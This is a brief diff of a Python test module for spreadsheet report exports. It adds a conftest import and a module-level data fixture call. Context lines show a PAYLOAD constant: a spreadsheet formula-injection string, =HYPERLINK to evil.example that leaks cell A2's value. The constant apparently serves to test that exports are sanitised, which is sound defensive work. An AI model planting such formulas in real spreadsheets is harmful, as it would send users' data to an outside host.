@@ -7,8 +7,11 @@ import re
 import zipfile
 
 from openpyxl import load_workbook
+from tests.reports.conftest import data_for_the_module
 
 from .test_documents import report
+
+_report_data, data = data_for_the_module()
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'
 
